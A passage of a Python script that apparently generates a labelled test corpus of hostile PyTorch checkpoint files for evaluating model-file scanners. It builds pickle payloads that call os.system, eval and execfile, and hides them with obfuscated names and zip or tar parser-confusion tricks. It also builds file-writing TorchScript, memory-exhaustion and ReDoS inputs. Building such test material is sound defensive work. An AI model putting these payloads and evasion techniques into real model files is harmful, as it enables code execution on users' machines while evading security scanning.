    place = lambda stem: namespace(startswith=code(stem))
    odd = b"(" + text("storage") + get("torch", "FloatStorage") + text("1") + place("persistent_location") + b"K\x02tQ"
    maybe("persistent_location", lambda stem: odd, more=[("data/1", STORAGE)])
    odd_type = b"(" + text("storage") + namespace(dtype=get("torch", "float32")) + text("0") + text("cpu") + b"K\x02tQ"
    maybe("persistent_type", lambda stem: odd_type)
    odd_key = b"(" + text("storage") + get("torch", "FloatStorage") + namespace(a=NONE) + text("cpu") + b"K\x02tQ"
    maybe("persistent_key", lambda stem: odd_key)
    maybe("persistent_text", lambda stem: text("storage") + b"Q", verdict="any")
    unsafe("inst_of_a_class", lambda stem: b"(" + text(path(stem)) + b"itorch.package.package_exporter\nPackageExporter\n", "torch.package.package_exporter.PackageExporter", verdict="dangerous")
    unsafe("obj_of_a_class", lambda stem: b"(" + get("torch.package.package_exporter", "PackageExporter") + text(path(stem)) + b"o", "torch.package.package_exporter.PackageExporter", verdict="dangerous")
    write = lambda stem: call(get("torch._C", "PyTorchFileWriter"), text(path(stem)))
    unsafe("called_in_a_list", lambda stem: lst(number(1), lst(write(stem))), "torch._C.PyTorchFileWriter")
    unsafe("called_as_a_key", lambda stem: dct(write(stem) + NONE), "torch._C.PyTorchFileWriter")
    unsafe("called_and_dropped", lambda stem: write(stem) + b"0N", "torch._C.PyTorchFileWriter")
    unsafe("called_in_a_mark", lambda stem: b"(" + write(stem) + b"1N", "torch._C.PyTorchFileWriter")
    unsafe("called_in_keywords", lambda stem: get("argparse", "Namespace") + EMPTY + dct(text("a") + write(stem)) + b"\x92", "torch._C.PyTorchFileWriter")
    note("called_before_the_end.pt", saved(b"\x80\x04" + write("called_before_the_end") + b"\xff"), "not safe", ("torch._C.PyTorchFileWriter",), "torch")
    danger("composed_name", lambda stem: call(text("o") + b"0" + stack_get("os", "system"), command(stem)), "os.system")
    unsafe("name_of_python_2", lambda stem: call(get("__builtin__", "execfile"), text("x")), "builtins.execfile", verdict="dangerous", executes=None, protocol=2)
    danger("exception_of_python_2", lambda stem: call(get("exceptions", "eval"), text(source(stem))), executes=None, protocol=2)
    unsafe("name_with_spaces", lambda stem: call(get("os ", "system"), command(stem)), executes=None)
    danger("name_in_latin", lambda stem: call(stack_get("ｏｓ", "system"), command(stem)), executes=None)
    rows[-1]["verdict"] = "not safe"
    danger("dotted_through_class", lambda stem: call(stack_get("torch.nn", "Module.__init__.__globals__.get"), text("functools")) + b"0" + call(stack_get("torch.serialization", "os.system"), command(stem)), "torch.serialization.os.system")
    danger("dotted_subclasses", lambda stem: call(stack_get("torch.nn", "Module.__class__.__subclasses__"), get("builtins", "object")), executes=None)
    danger("module_names", lambda stem: call(call(stack_get("torch._utils", "sys.modules.get"), text("os")) + b"0" + stack_get("torch._utils", "sys.modules.__class__.get") + b"0" + get("os", "system"), command(stem)), "os.system")
    maybe("attribute_items", lambda stem: call(get("torch._tensor", "_rebuild_from_type_v2"), get("torch._utils", "_rebuild_tensor_v2"), get("torch", "Tensor"), b"(" + tensor_arguments() + b"t", build(call(get("collections", "OrderedDict")) + text("a") + NONE + b"s", dct(text("items") + module(("torch.nn.modules.container", "ModuleList"))))))
    array = call(get("numpy._core.multiarray", "_reconstruct"), get("numpy", "ndarray"), tup(number(0)), raw(b"b"))
    kind = call(get("numpy", "dtype"), text("f4"), FALSE, TRUE) + tup(number(3), text("<"), NONE, NONE, NONE, number(-1), number(-1), number(0)) + b"b"
    content = lambda count: tup(number(1), tup(number(count)), kind, FALSE, raw(bytes(4 * count)))
    view = call(get("torch._utils", "_rebuild_device_tensor_from_numpy"), b"h\xf3", get("torch", "float32"), text("cpu"), FALSE)
    maybe("array_state_twice", lambda stem: array + b"q\xf3" + content(100_000) + b"b0" + view + b"q\xf4" + b"0" + build(b"h\xf3", content(1)) + b"0h\xf4")
    whole = call(get("numpy._core.multiarray", "_reconstruct"), get("numpy", "ndarray"), tup(number(100_000)), text("f4"))
    maybe("array_viewed_before_its_state", lambda stem: whole + b"q\xf3" + b"0" + view + b"q\xf4" + b"0" + build(b"h\xf3", content(1)) + b"0h\xf4")
    flags = lambda n: tup(number(3), text("|"), NONE, NONE, NONE, number(8), number(1), number(n))
    bent = call(get("numpy", "dtype"), text("V8"), FALSE, TRUE) + flags(63) + b"b"
    maybe("numpy_flags", lambda stem: build(array, tup(number(1), tup(number(1)), bent, FALSE, raw(b"A" * 8))))
    objects = call(get("numpy", "dtype"), text("O8"), FALSE, TRUE) + tup(number(3), text("|"), NONE, NONE, NONE, number(-1), number(-1), number(63)) + b"b"
    unsafe("numpy_objects", lambda stem: build(array, tup(number(1), tup(number(1)), objects, FALSE, lst(write(stem)))), "torch._C.PyTorchFileWriter")


def tensor_arguments():
    storage = b"(" + text("storage") + get("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x02tQ"
    return storage + number(0) + tup(number(2)) + tup(number(1)) + FALSE + call(get("collections", "OrderedDict"))


def exhaustion():
    """Much memory or time for a few bytes."""
    maybe("bytearray_of_a_number", lambda stem: call(get("builtins", "bytearray"), b"\x8a\x05\x00\x00\x00\x00\x10"), "builtins.bytearray")
    maybe("bytes_of_a_number", lambda stem: call(get("builtins", "bytes"), b"\x8a\x05\x00\x00\x00\x00\x10"), "builtins.bytes")
    maybe("list_of_a_range", lambda stem: call(get("builtins", "list"), call(get("builtins", "range"), b"\x8a\x05\x00\x00\x00\x00\x10")), "builtins.list")
    maybe("set_of_a_range", lambda stem: call(get("builtins", "set"), call(get("builtins", "range"), b"\x8a\x05\x00\x00\x00\x00\x10")), "builtins.set")
    maybe("fraction_exponent", lambda stem: call(get("fractions", "Fraction"), text("1e99999999")), "fractions.Fraction")
    maybe("storage_of_a_number", lambda stem: call(get("torch.storage", "UntypedStorage"), b"\x8a\x06\x00\x00\x00\x00\x00\x10"), "torch.storage.UntypedStorage")
    maybe("float_storage_of_a_number", lambda stem: call(get("torch", "FloatStorage"), b"\x8a\x05\x00\x00\x00\x00\x10"), "torch.FloatStorage")
    maybe("zeros", lambda stem: call(get("torch", "zeros"), b"\x8a\x05\x00\x00\x00\x00\x10"), "torch.zeros")
    maybe("numpy_reconstruct_shape", lambda stem: call(get("numpy._core.multiarray", "_reconstruct"), get("numpy", "ndarray"), tup(b"\x8a\x05\x00\x00\x00\x00\x10"), raw(b"b")))
    maybe("numpy_text_type", lambda stem: call(get("numpy._core.multiarray", "_reconstruct"), get("numpy", "ndarray"), tup(number(2**30)), text("U1000")))
    maybe("regular_expression", lambda stem: call(stack_get("re", "Pattern.match"), call(get("re", "compile"), text("(a+)+$")), text("a" * 40 + "b")), "re.compile")


def archives():
    """What PyTorch's reader of archives finds where others look elsewhere."""
    evil = lambda stem: b"\x80\x04" + call(get("os", "system"), command(stem)) + b"."
    good = b"\x80\x02}" + text("w") + tensor() + b"s."

    def archive(*entries, comment=b""):
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w") as made:
            for name, content in entries:
                made.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), content)
            made.comment = comment
        return file.getvalue()

    rest = lambda root="m": ((f"{root}/byteorder", b"little"), (f"{root}/data/0", STORAGE), (f"{root}/version", b"3\n"))
    unclear = lambda stem, content, executes="torch": note(f"{stem}.pt", content, "not safe" if executes else "any", (), executes)
    unclear("case_alone", archive(("m/DATA.PKL", evil("case_alone")), *rest()))
    unclear("case_second", archive(("m/data.pkl", good), ("m/Data.pkl", evil("case_second")), *rest()), "records")
    unclear("case_of_the_folder", archive(("M/data.pkl", evil("case_of_the_folder")), ("m/data.pkl", good), *rest()), "records")
    unclear("first_folder_counts", archive(("a/data.pkl", evil("first_folder_counts")), *rest("a"), ("m/data.pkl", good), *rest()), "records")
    unclear("folder_of_another_first_entry", archive(("a/version", b"3\n"), ("m/data.pkl", good), *rest(), ("a/data.pkl", evil("folder_of_another_first_entry"))), "records")
    twice = archive(("m/data.pkl", good), ("m/data.pkX", evil("name_twice")), *rest()).replace(b"data.pkX", b"data.pkl")
    unclear("name_twice", twice,"records")
    first = archive(("m/data.pkX", evil("name_twice_first")), ("m/data.pkl", good), *rest()).replace(b"data.pkX", b"data.pkl")
    unclear("name_twice_first", first)
    outside = archive(("m/data.pkl", good), ("m/evil.bin", evil("other_name_within")), *rest())
    directory = outside.index(b"PK\x01\x02")
    swapped = outside[:directory] + outside[directory:].replace(b"m/data.pkl", b"m/swap.pkl").replace(b"m/evil.bin", b"m/data.pkl")
    unclear("other_name_within", swapped.replace(b"m/swap.pkl", b"m/evil.bin"))
    offsets = bytearray(archive(("m/data.pkl", good), ("m/more.pkl", evil("offsets_swapped")), *rest()))
    one = offsets.index(b"PK\x01\x02")
    two = offsets.index(b"PK\x01\x02", one + 4)
    for start, length in ((16, 12), (42, 4)):
        offsets[one + start : one + start + length], offsets[two + start : two + start + length] = offsets[two + start : two + start + length], offsets[one + start : one + start + length]
    unclear("offsets_swapped", bytes(offsets))

    def directory_of(whole, shift=0):
        """The table of contents of an archive, moved, and its end record."""
        end = whole.rindex(b"PK\x05\x06")
        size, start = struct.unpack_from("<II", whole, end + 12)
        table = bytearray(whole[start : start + size])
        at = table.find(b"PK\x01\x02")
        while at >= 0:
            struct.pack_into("<I", table, at + 42, struct.unpack_from("<I", table, at + 42)[0] + shift)
            at = table.find(b"PK\x01\x02", at + 4)
        return whole[:start], bytes(table), whole[end:]

    def two_ends(stem, is_evil_last):
        harmful, harmless = archive(("m/data.pkl", evil(stem)), *rest()), archive(("m/data.pkl", good), *rest())
        front, back = (harmless, harmful) if is_evil_last else (harmful, harmless)
        entries, table, end = directory_of(back)
        before, first_table, first_end = directory_of(front)
        start = len(before) + len(first_table) + 22
        _, table, end = directory_of(back, start)
        tail = entries + table + end[:12] + struct.pack("<II", len(table), start + len(entries)) + end[20:]
        return before + first_table + first_end[:20] + struct.pack("<H", len(tail)) + tail

    unclear("two_ends_evil_last", two_ends("two_ends_evil_last", True))
    unclear("two_ends_evil_first", two_ends("two_ends_evil_first", False), None)

    def other_directory(stem):
        """An end record of zip64 that names another table of contents than the plain one."""
        harmful, harmless = archive(("m/data.pkl", evil(stem)), *rest()), archive(("m/data.pkl", good), *rest())
        entries, _, end = directory_of(harmless)
        more, _, evil_end = directory_of(harmful)
        _, evil_table, _ = directory_of(harmful, len(entries))
        _, good_table, _ = directory_of(harmless)
        (count,) = struct.unpack_from("<H", end, 10)
        at = len(entries) + len(more)
        start64 = at + len(evil_table) + len(good_table)
        end64 = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(evil_table), at)
        locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, start64, 1)
        plain = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(good_table), at + len(evil_table), 0)
        return entries + more + evil_table + good_table + end64 + locator + plain

    unclear("zip64_directory", other_directory("zip64_directory"))

    def with_unicode_names(stem):
        import zlib

        file = io.BytesIO()
        with zipfile.ZipFile(file, "w") as made:
            for name, other, content in (("m/data.pkl", "m/x.txt", evil(stem)), ("m/y.txt", "m/data.pkl", good)):
                info = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
                data = b"\x01" + struct.pack("<I", zlib.crc32(name.encode())) + other.encode()
                info.extra = struct.pack("<HH", 0x7075, len(data)) + data
                made.writestr(info, content)
            for name, content in rest():
                made.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), content)
        return file.getvalue()

    unclear("unicode_path", with_unicode_names("unicode_path"))
    odd = lambda stem, name: archive((name.replace("\0", "\x01"), evil(stem)), ("m/data.pkl", good), *rest()).replace(name.replace("\0", "\x01").encode(), name.encode())
    unclear("zero_in_the_name", odd("zero_in_the_name", "m/data.pkl\0.txt"),"records")
    unclear("backslash_in_the_name", odd("backslash_in_the_name", "m\\data.pkl"),"records")
    unclear("dot_in_the_name", odd("dot_in_the_name", "m/./data.pkl"),"records")
    old = {**LEGACY, "data": b"\x80\x04" + call(get("os", "system"), command("pickles_before_the_archive")) + b"0" + LEGACY["data"][2:]}
    unclear("pickles_before_the_archive", legacy(**old) + archive(("m/data.pkl", good), *rest()))
    unclear("archive_before_pickles", archive(("m/data.pkl", good), *rest()) + evil("archive_before_pickles"), None)
    unclear("pickle_before_the_archive", evil("pickle_before_the_archive") + archive(("m/data.pkl", good), *rest()), "pickle")
    unclear("comment_is_a_pickle", archive(("m/data.pkl", good), *rest(), comment=evil("comment_is_a_pickle")), None)
    unclear("pickle_by_another_name", archive(("m/data.pkl", good), ("m/extra/notes.txt", evil("pickle_by_another_name")), *rest()), "records")
    unclear("file_within_a_file", archive(("m/data.pkl", good), ("m/more/inner.pt", saved(evil("file_within_a_file"))), *rest()), "records")
    unclear("storage_is_a_pickle", archive(("m/data.pkl", good), ("m/data/1", evil("storage_is_a_pickle")), *rest()), None)
    class_ = b"\x80\x02" + get("__torch__", "Net") + b")\x81."
    (folder / "__torch__.py").write_text(source("script_class_of_python") + "\nclass Net: pass\n")
    unclear("script_class_of_python", archive(("m/data.pkl", class_), ("m/code/__torch__.py", b"class Net(Module):\n  pass\n"), *rest()))
    unclear("script_class_other_case", archive(("m/data.pkl", class_), ("m/CONSTANTS.PKL", b"\x80\x02)."), ("m/code/__torch__.py", b"class Net(Module):\n  pass\n"), *rest()))
    for stem, names in (("tar_storages", "storages"), ("tar_tensors", "tensors"), ("tar_pickle", "pickle")):
        file = io.BytesIO()
        with tarfile.open(fileobj=file, mode="w", format=tarfile.PAX_FORMAT) as made:
            for name in ("sys_info", "pickle", "storages", "tensors"):
                number_ = b"\x80\x02K\x00."
                plain = {"sys_info": b"\x80\x02}.", "pickle": b"\x80\x02N.", "storages": number_ + b"\x80\x02]."}
                content = evil(stem) if name == names else plain.get(name, number_)
                info = tarfile.TarInfo(name)
                info.size = len(content)
                made.addfile(info, io.BytesIO(content))
        unclear(stem, file.getvalue())


def script(body, more=""):
    return (
        "class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n"
        + "".join(f"    {line}\n" for line in body.split("\n"))
        + more
    )


def programs():
    """TorchScript and exported programs."""

    def torchscript(stem, body, executes="jit", more="", data=None):
        data = data or b"\x80\x02c__torch__\nM\nq\x00)\x81}(X\x08\x00\x00\x00trainingq\x01\x89ub."
        entries = (("constants.pkl", b"\x80\x02)."), ("code/__torch__.py", script(body, more).encode()))
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w") as made:
            for name, content in (("data.pkl", data), *entries, ("version", b"3\n"), ("byteorder", b"little")):
                made.writestr(zipfile.ZipInfo("m/" + name, (1980, 1, 1, 0, 0, 0)), content)
        note(f"{stem}.pt", file.getvalue(), "dangerous", (), executes)

    torchscript("script_from_file", f'_0 = torch.from_file("{path("script_from_file")}", True, 8)\nreturn torch.add(x, _0)')
    torchscript("script_operator_save", f'_0 = ops.aten.save("x", "{path("script_operator_save")}")\nreturn x')
    torchscript("script_image_write", f'_0 = ops.image.write_file("{path("script_image_write")}", torch.zeros([2], dtype=0))\nreturn x')
    state = b"\x80\x02c__torch__\nM\nq\x00)\x81K\x01b."
    setstate = f'  def __getstate__(self: __torch__.M) -> int:\n    return 1\n  def __setstate__(self: __torch__.M,\n    state: int) -> NoneType:\n    _0 = torch.save("x", "{path("script_setstate")}")\n    self.training = False\n    return None\n'
    torchscript("script_setstate", "return x", more=setstate, data=state)
    torchscript("script_endless", "_0 = True\nwhile _0:\n  _0 = True\nreturn x", None)
    # Loading it does no harm.
    rows[-1]["verdict"] = "any"
    evil = lambda stem: saved(b"\x80\x04" + call(get("os", "system"), command(stem)) + b".")
    program = MODELS / "resnet8.pt2"
    if program.is_file():
        for stem, part, executes in (
            ("program_weights", "data/weights/", "records"),
            ("program_constants", "data/constants/", "records"),
            ("program_inputs", "data/sample_inputs/", "records"),
        ):
            file = io.BytesIO()
            with zipfile.ZipFile(program) as old, zipfile.ZipFile(file, "w") as made:
                is_replaced = False
                for info in old.infolist():
                    content = old.read(info)
                    if part in info.filename and info.filename.endswith((".pt", "weight_0")) and not is_replaced:
                        content, is_replaced = evil(stem), True
                    made.writestr(zipfile.ZipInfo(info.filename, (1980, 1, 1, 0, 0, 0)), content)
                if not is_replaced:
                    root = old.namelist()[0].partition("/")[0]
                    made.writestr(zipfile.ZipInfo(f"{root}/{part}evil.pt", (1980, 1, 1, 0, 0, 0)), evil(stem))
            note(f"{stem}.pt2", file.getvalue(), "dangerous", ("os.system",), executes)
    good = {"schema_version": {"major": 8, "minor": 2}, "graph_module": {"graph": {"nodes": []}}}
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        for name, content in (
            ("version", b"5"),
            ("serialized_exported_program.json", json.dumps(good).encode()),
            ("serialized_state_dict.pt", evil("program_of_the_first_form")),
            ("serialized_constants.pt", saved(b"\x80\x02}.")),
            ("serialized_example_inputs.pt", saved(b"\x80\x02}.")),
        ):
            made.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), content)
    note("program_of_the_first_form.pt2", file.getvalue(), "not safe", (), "records")


def main():
    make.markers.mkdir(parents=True, exist_ok=True)
    for kind in (torchs_own_names, callbacks, pythons_own_names, packages, machinery, exhaustion, archives, programs):
        kind()
    (folder / "manifest.json").write_text(json.dumps(rows, indent=1))


if __name__ == "__main__":
    main()
